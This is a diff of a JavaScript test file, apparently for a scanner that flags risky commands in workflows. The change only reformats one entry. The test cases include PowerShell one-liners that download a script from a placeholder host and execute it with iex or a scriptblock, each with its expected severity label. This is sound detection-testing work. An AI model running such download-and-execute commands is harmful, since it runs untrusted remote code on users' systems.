@@ -309,7 +309,11 @@ describe('workflows', () => {
     ['pwsh', 'iwr https://x.example/a.ps1 -OutFile ./a.ps1; & .\\a.ps1', ['downloaded-code suggestion']],
     ['pwsh', 'iwr https://x.example/a.ps1 -OutFile a.ps1; pwsh -File a.ps1', ['downloaded-code suggestion']],
     ['pwsh', '$s = irm https://x.example/a.ps1; iex $s', ['downloaded-code critical']],
-    ['pwsh', '$s = iwr https://x.example/a; $t = $s.Content; & ([scriptblock]::Create($t))', ['downloaded-code critical']],
+    [
+      'pwsh',
+      '$s = iwr https://x.example/a; $t = $s.Content; & ([scriptblock]::Create($t))',
+      ['downloaded-code critical'],
+    ],
     ['pwsh', 'iwr https://x.example/a.json -OutFile a.json; Get-Content a.json', []],
     ['pwsh', 'iwr https://x.example/a.ps1 -OutFile a.ps1; git add a.ps1', []],
     // Keys of one service for another.
